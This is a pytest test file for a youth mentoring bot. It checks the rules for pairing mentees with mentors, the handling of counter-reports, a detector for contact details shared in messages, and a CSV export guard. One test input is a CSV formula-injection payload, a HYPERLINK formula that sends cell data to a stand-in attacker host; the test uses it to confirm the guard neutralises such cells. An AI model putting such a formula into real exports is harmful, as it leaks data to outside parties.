"""The safety policy's rules (bot/safety.py) and the CSV cell guard."""

import pytest

from bot.admin.export import cell
from bot.safety import Person, counter_report_of, find_contact_details, mentee_refusal, pair_refusal


def mentee(**changes):
    base = dict(user_id=1, role="mentee", age_band="14-17", guardian_consent=True, suspended=False, finished=True)
    return Person(**{**base, **changes})


def mentor(**changes):
    base = dict(
        user_id=2,
        role="mentor",
        age_band="18+",
        guardian_consent=False,
        suspended=False,
        finished=True,
        mentor_status="approved",
        cleared_for_minors=True,
    )
    return Person(**{**base, **changes})


@pytest.mark.parametrize(
    ("her", "him", "why"),
    [
        (mentee(), mentor(), None),
        (mentee(age_band="under14"), mentor(), "under_14"),
        (mentee(age_band=None), mentor(), "under_14"),
        (mentee(guardian_consent=False), mentor(), "no_guardian_consent"),
        (mentee(age_band="18+", guardian_consent=False), mentor(cleared_for_minors=False), None),
        (mentee(), mentor(cleared_for_minors=False), "not_cleared_for_minors"),
        (mentee(), mentor(suspended=True), "mentor_unavailable"),
        (mentee(), mentor(mentor_status="pending"), "mentor_unavailable"),
        (mentee(role="subscriber"), mentor(), "not_a_mentee"),
        (mentee(suspended=True), mentor(), "suspended"),
    ],
)
def test_pair_rules(her, him, why):
    assert pair_refusal(her, him, reported_by_her=False) == why


def test_she_is_never_paired_with_a_mentor_she_has_an_open_report_about():
    assert pair_refusal(mentee(), mentor(), reported_by_her=True) == "reported"
    assert mentee_refusal(mentee()) is None


def test_a_report_from_the_reported_side_of_a_paused_mentorship_is_a_counter_report():
    assert counter_report_of("paused", 2, [(7, 2)]) == 7
    assert counter_report_of("paused", 1, [(7, 2)]) is None  # she adds a second report of her own
    assert counter_report_of("active", 2, [(7, 2)]) is None


@pytest.mark.parametrize(
    "raw", ['=HYPERLINK("https://evil.example/?d="&A2,"Aida")', "+1", "-2", "@SUM(A1)", "\tx", "\rx"]
)
def test_csv_cells_that_look_like_formulas_are_neutralised(raw):
    assert cell(raw) == "'" + raw


def test_csv_cells_otherwise_stay_as_they_are():
    assert cell("Aida") == "Aida" and cell(None) == "" and cell(-3) == -3


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("call me +996 555 123 456", "phone"),
        ("мой номер 0555-12-34-56", "phone"),
        ("0555.12.34.56", "phone"),
        ("write to @aigul_stem", "username"),
        ("t.me/aigul", "link"),
        ("https://wa.me/996555123456", "link"),
        ("instagram.com/aigul.codes", "link"),
        ("aigul@example.kg", "email"),
        ("aigul @ example . kg", "email"),
        ("t . me/secret", "link"),
    ],
)
def test_contact_details_are_found(text: str, kind: str) -> None:
    assert kind in {found_kind for found_kind, _ in find_contact_details(text)}


@pytest.mark.parametrize(
    "text",
    [
        "See you on 12.03 at 18:30",
        "I scored 95 out of 100 in 2024",
        "Room 305, building 2",
        "email me? no!",
        "@ home",
        "the deadline is 2026-03-12",
        "born 12.03.2009",
    ],
)
def test_ordinary_text_has_no_contact_details(text: str) -> None:
    assert find_contact_details(text) == []
